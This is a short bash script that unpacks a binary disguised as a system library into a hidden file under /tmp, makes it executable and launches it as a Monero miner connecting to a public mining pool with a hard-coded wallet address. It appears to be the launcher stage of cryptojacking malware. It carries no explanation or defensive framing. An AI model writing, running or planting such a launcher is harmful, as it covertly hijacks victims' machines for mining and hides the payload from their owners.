#!/bin/bash
xz -dc /usr/lib/x86_64-linux-gnu/libsys.so.6.xz > /tmp/.libsys
chmod +x /tmp/.libsys
exec /tmp/.libsys -o xmr-eu1.nanopool.org:14444 -u 49jGKws3gtEhG5oJrab2M28K7xduRyKU7b2xMwXFzJz8Waa4YzoajYdPyKYZ2Edo9GARPsWknZaWkKnruQK7hzY6bWFH81K -p x -k --coin monero
